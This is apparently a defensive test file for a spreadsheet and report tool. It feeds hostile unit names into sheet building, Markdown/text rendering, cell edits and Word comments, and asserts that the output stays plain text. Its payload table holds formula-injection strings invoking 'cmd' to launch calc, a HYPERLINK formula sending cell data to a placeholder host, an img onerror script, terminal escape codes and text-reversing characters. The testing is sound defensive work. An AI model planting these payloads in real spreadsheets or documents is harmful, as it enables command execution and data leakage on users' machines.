import * as SheetJS from "@e965/xlsx";
import { unzipSync } from "fflate";
import { tidyText } from "../../../src/core/base/fold-text";
import { analyze } from "../../../src/core/engine/analyze";
import { listMarks } from "../../../src/core/engine/list-marks";
import { renderReport } from "../../../src/core/render/render-report";
import { planSheets, SHEET_KINDS } from "../../../src/core/sheets/plan-sheets";
import { defaultTemplate } from "../../../src/core/template/default-template";
import { readTables } from "../../../src/core/tables/read-tables";
import { annotateDocx } from "../../../src/documents/annotate/annotate-docx";
import { readDocxDocument } from "../../../src/documents/docx/read-docx-document";
import { createWorkbook } from "../../../src/hosts/xlsx/create-workbook";
import { applyCellEdits, markCells, writeSheets } from "../../../src/hosts/xlsx/patch-xlsx";
import { readXlsx } from "../../../src/hosts/xlsx/read-xlsx";
import { enterText } from "../../../src/hosts/office/enter-text";
import { faultOf, holdParts } from "../../fuzz/hold";
import { unwrap } from "../../hosts/host-contract";
import { plainPlan } from "../../hosts/plans";
import { makeDocx, paragraph } from "../../support/make-docx";
import type { FaultCase } from "../fault-case";

/** What a unit may have typed so that it runs, steers a terminal, or passes for something else. */
const HOSTILE: Readonly<Record<string, string>> = {
  "=HYPERLINK(…)": '=HYPERLINK("http://x.example/?"&A1,"Xã An")',
  "+cmd|…": "+cmd|' /C calc'!A0",
  "-2+3+cmd|…": "-2+3+cmd|' /C calc'!A0",
  "@SUM(…)": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a tab and a formula": "\t=1+1",
  "a line end and a formula": "\r=1+1",
  "a comparison": '<>"*"',
  wildcards: "*?~",
  "terminal codes": "Xã \u001b[2J\u001b[31mAn\u0007",
  "turned letters": "Xã \u202eNA\u202c",
  "half a surrogate": "Xã \ud800 An",
  "control characters": "Xã \u0000\u0001\u000b An",
  "markdown and HTML": "[Xã](http://x.example) <img src=x onerror=alert(1)> `a` | b",
  "lines that pass for a report": "Xã An\n\nLỖI (0)\n  Không có lỗi",
  "40,000 characters": "Xã An ".repeat(6667),
};

/** What strangers typed, in everything that we write. */
export const OUTPUT_CASES: readonly FaultCase[] = Object.entries(HOSTILE).flatMap(
  ([words, text]): readonly FaultCase[] => [
    {
      name: `a unit called ${words}: built sheets, findings, marks`,
      at: "sheets",
      happen: () => tryBuilding(text),
      expected: /^text in \d+ cells, no formula of its own/u,
    },
    {
      name: `a unit called ${words}: report as text and Markdown`,
      at: "render",
      happen: () => tryRendering(text),
      expected: /^one line each, nothing that steers/u,
    },
    {
      name: `a figure corrected to ${words}`,
      at: "edits",
      happen: () => tryEditing(text),
      expected: /^text/u,
    },
    {
      name: `a Word comment that says ${words}`,
      at: "annotate",
      happen: () => tryCommenting(text),
      expected: /^comment in sound XML/u,
    },
    {
      name: `${words} entered into Excel`,
      at: "office",
      happen: () => (/^\s*[=+\-@]/u.test(text) && !enterText(text).startsWith("'") ? "a formula" : "text"),
      expected: /^text/u,
    },
  ],
);

const HEADERS = [
  "Đơn vị",
  "Loại",
  "Tên mô hình, nội dung",
  "Đối tượng",
  "Tên tập thể, cá nhân",
  "Lĩnh vực",
  "Năm đăng ký",
];

function makeBook(unit: string): { readonly bytes: Uint8Array; readonly typed: string } {
  const rows = ["Xã Bình", unit, unit, "Xã Cao"].map((name, index) => [
    ...[name, "Mô hình", `Vườn rau sạch số ${index}`, "Tập thể", `Tổ ${index}`, "Kinh tế"],
    index === 2 ? "20x1" : 2021,
  ]);
  const plan = plainPlan("Danh sách", [HEADERS, ...rows]);
  const cells = plan.cells.map((cell) => {
    const given = [HEADERS, ...rows][cell.row]?.[cell.column] ?? "";
    return typeof given === "string" ? { ...cell, content: { kind: "text" as const, text: given } } : cell;
  });
  const bytes = createWorkbook([{ ...plan, cells }]);
  const read = unwrap(readXlsx("a.xlsx", bytes));
  return { bytes, typed: String(read.sheets[0]?.values[2]?.[0]) };
}

function tryBuilding(text: string): string {
  const { bytes, typed } = makeBook(text);
  const workbook = unwrap(readXlsx("a.xlsx", bytes));
  const template = defaultTemplate();
  const { findings, figures } = analyze([workbook], [], template);
  const { register } = readTables([workbook], template);
  if (register.entries !== 4) throw new Error(`${register.entries} entries of 4`);
  const marked = unwrap(markCells(bytes, listMarks(findings, "a.xlsx")));
  let cells = 0;
  for (const values of [false, true]) {
    const sources = { template, register, workbooks: [workbook] };
    const { plans } = planSheets(sources, { which: SHEET_KINDS, values, language: "vi", findings, figures });
    const written = unwrap(writeSheets(marked, plans)).bytes;
    holdParts(bytes, written);
    const again = unwrap(readXlsx("a.xlsx", written));
    // Another program's eyes: what it takes for a formula is one.
    const book = SheetJS.read(written, { cellFormula: true });
    for (const [name, sheet] of Object.entries(book.Sheets)) {
      for (const [address, cell] of Object.entries(sheet) as [string, SheetJS.CellObject][]) {
        if (address.startsWith("!")) continue;
        if (
          typeof cell.f === "string" &&
          /HYPERLINK|cmd\||^1\+1|^-2/u.test(cell.f.replace(/"(?:[^"]|"")*"/gu, ""))
        )
          throw new Error(`${name}!${address} is the formula ${cell.f}`);
        if (typeof cell.v === "string" && cell.v.length > 32_767)
          throw new Error(`${name}!${address} is too long`);
      }
    }
    for (const { values: grid } of again.sheets)
      for (const row of grid)
        cells += row.filter(
          (value) => typeof value === "string" && tidyText(value) === tidyText(typed),
        ).length;
  }
  // Twice in the register, and once in the table by units, in both writings.
  if (cells < 6) throw new Error(`the unit stands in ${cells} cells`);
  return `text in ${cells} cells, no formula of its own`;
}

function tryRendering(text: string): string {
  const workbook = unwrap(readXlsx("a.xlsx", makeBook(text).bytes));
  const report = analyze([workbook], [], defaultTemplate());
  const [finding] = report.findings;
  if (!finding) throw new Error("nothing to tell");
  // Also where a sheet, a file and a sentence bear the text.
  const at = { kind: "cell", workbook: text, sheet: text, address: "A1" } as const;
  const told = {
    ...report,
    workbooks: [text],
    findings: [{ ...finding, at, message: `“${text}” ở ô này.` }],
  };
  for (const format of ["text", "markdown"] as const) {
    const plain = renderReport(
      {
        ...told,
        workbooks: ["a"],
        findings: [{ ...finding, at: { ...at, workbook: "a", sheet: "a" }, message: "a" }],
      },
      format,
      "vi",
    );
    const written = renderReport(told, format, "vi");
    if (written.split("\n").length !== plain.split("\n").length)
      throw new Error(`${format} has lines of the unit's own`);
    // eslint-disable-next-line no-control-regex
    const steering = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\p{Cs}/u.exec(
      written,
    );
    if (steering) throw new Error(`${format} holds U+${steering[0].charCodeAt(0).toString(16)}`);
    if (format === "markdown" && /<img|(?<!\\)\]\(http/u.test(written))
      throw new Error("Markdown holds a link or a tag");
  }
  return "one line each, nothing that steers";
}

function tryEditing(text: string): string {
  const { bytes } = makeBook("Xã An");
  const edit = {
    kind: "set-cell",
    sheet: "Danh sách",
    address: "C2",
    from: "Vườn rau sạch số 0",
    to: text,
  } as const;
  const edited = unwrap(applyCellEdits(bytes, [edit]));
  holdParts(bytes, edited);
  const [sheet] = unwrap(readXlsx("a.xlsx", edited)).sheets;
  if ((sheet?.formulas.size ?? 1) > 0) throw new Error("a formula");
  return `text of ${String(sheet?.values[1]?.[2]).length} characters`;
}

function tryCommenting(text: string): string {
  const bytes = makeDocx({ body: paragraph("Có 75 mô hình.") });
  const docx = unwrap(readDocxDocument("a.docx", bytes));
  const remark = { start: 3, end: 5, text: [text], textAtNote: [text] };
  const annotated = unwrap(annotateDocx(docx, bytes, [remark], { author: text, initials: "K" }));
  const comments = new TextDecoder().decode(unzipSync(annotated.bytes)["word/comments.xml"]);
  const fault = faultOf(comments);
  if (fault !== null) throw new Error(fault);
  if (/\u202e|<w:(?:hyperlink|fld)/u.test(comments))
    throw new Error("the comment turns letters about, or has a field");
  return "comment in sound XML";
}
